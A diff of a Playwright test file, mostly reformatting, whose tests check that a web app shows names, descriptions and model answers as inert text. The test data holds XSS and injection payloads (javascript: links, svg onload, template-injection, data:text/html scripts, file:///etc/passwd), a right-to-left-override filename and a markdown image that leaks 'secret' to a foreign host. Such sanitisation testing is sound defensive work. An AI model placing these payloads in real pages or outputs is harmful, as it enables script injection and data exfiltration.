@@ -11,9 +11,23 @@ const TURNED = "evil\u202Egnp.exe\u2066\u200B";
 
 test("names, descriptions and attributes are shown as they were written and do nothing", async ({ unaided, doors }) => {
   const project = await unaided.project();
-  const names = [SCRIPT, PICTURE, `![p](${FOREIGN}/p.png)`, "[go](javascript:alert(1))", "{{constructor.constructor('alert(1)')()}}"];
+  const names = [
+    SCRIPT,
+    PICTURE,
+    `![p](${FOREIGN}/p.png)`,
+    "[go](javascript:alert(1))",
+    "{{constructor.constructor('alert(1)')()}}",
+  ];
   await project.change(
-    ...names.map((name, index) => ({ op: "node.create", id: `a${index}`, nodeType: "FUNC", name, descr: `${PICTURE}${SCRIPT}`, tempId: `a${index}`, attributes: { note: `"><svg onload=alert(1)>` } })),
+    ...names.map((name, index) => ({
+      op: "node.create",
+      id: `a${index}`,
+      nodeType: "FUNC",
+      name,
+      descr: `${PICTURE}${SCRIPT}`,
+      tempId: `a${index}`,
+      attributes: { note: `"><svg onload=alert(1)>` },
+    })),
   );
   const page = await doors.open(project.ana, project);
   await openTab(page, "FN");
@@ -25,7 +39,9 @@ test("names, descriptions and attributes are shown as they were written and do n
   await page.getByRole("button", { name: "Details" }).click();
   await expect(drawer(page)).toContainText(`"><svg onload=alert(1)>`);
   await page.getByRole("button", { name: "History" }).click();
-  await drawer(page).getByRole("button", { name: /Revision 1/ }).click();
+  await drawer(page)
+    .getByRole("button", { name: /Revision 1/ })
+    .click();
   await expect(drawer(page)).toContainText("javascript:alert(1)");
   await page.keyboard.press("Control+K");
   await page.keyboard.type("<script");
@@ -38,7 +54,7 @@ test("an answer with pictures, scripts and false links becomes plain words", asy
   model.answers(
     "What about",
     `# Look\n\n![a picture](${FOREIGN}/leak.png?model=secret) ${PICTURE}\n\n${SCRIPT}\n\n`,
-    `[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd) [there](https://there.example/)\n\n`,
+    "[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd) [there](https://there.example/)\n\n",
     `<style>@import url("${FOREIGN}/s.css");</style>\n\n<iframe src="${FOREIGN}"></iframe>\n\n[ref]: ${FOREIGN}/r\n\n![x][ref]\n`,
   );
   const project = await scripted.project();
@@ -52,7 +68,9 @@ test("an answer with pictures, scripts and false links becomes plain words", asy
   await expect(answer.locator("a")).toHaveCount(1);
   await expect(answer.locator("a")).toHaveAttribute("href", "https://there.example/");
   await expect(answer.locator("a")).toHaveAttribute("rel", /noreferrer/);
-  await expect(page.locator("img, script:not([src]), iframe, style:not([nonce])").and(answer.locator("*"))).toHaveCount(0);
+  await expect(page.locator("img, script:not([src]), iframe, style:not([nonce])").and(answer.locator("*"))).toHaveCount(
+    0,
+  );
 });
 
 test("characters that turn writing around stay inside their own name", async ({ unaided, doors }) => {
@@ -67,7 +85,10 @@ test("characters that turn writing around stay inside their own name", async ({ 
   await expect(page.locator(".box-name bdi")).toHaveCount(1);
 });
 
-test("a text of a megabyte is refused with its limit, where it is typed and where it is pasted, and harms nobody", async ({ unaided, doors }) => {
+test("a text of a megabyte is refused with its limit, where it is typed and where it is pasted, and harms nobody", async ({
+  unaided,
+  doors,
+}) => {
   const project = await unaided.project();
   const megabyte = "x".repeat(1_000_000);
   const page = await doors.open(project.ana, project);
@@ -83,7 +104,11 @@ test("a text of a megabyte is refused with its limit, where it is typed and wher
   await expect(page.getByRole("dialog").getByRole("button", { name: /Apply/ })).toBeDisabled();
   await page.keyboard.press("Escape");
 
-  const body = { commandId: crypto.randomUUID(), baseRevision: 0, operations: [{ op: "node.create", id: "a", nodeType: "FUNC", name: megabyte }] };
+  const body = {
+    commandId: crypto.randomUUID(),
+    baseRevision: 0,
+    operations: [{ op: "node.create", id: "a", nodeType: "FUNC", name: megabyte }],
+  };
   await expect(project.ana.ask("POST", `${project.path}/changes`, body)).rejects.toThrow(/: 4\d\d .{1,4000}$/);
   await expect(page.locator(".top .note").first()).toContainText("revision 0");
 
@@ -92,6 +117,8 @@ test("a text of a megabyte is refused with its limit, where it is typed and wher
   await project.change({ op: "node.create", id: "a", nodeType: "FUNC", name: longest, tempId: "a" });
   await expect(row(page, longest)).toBeVisible();
   await expect(box(page, longest)).toBeVisible();
-  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+  const overflow = await page.evaluate(
+    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  );
   expect(overflow).toBe(0);
 });
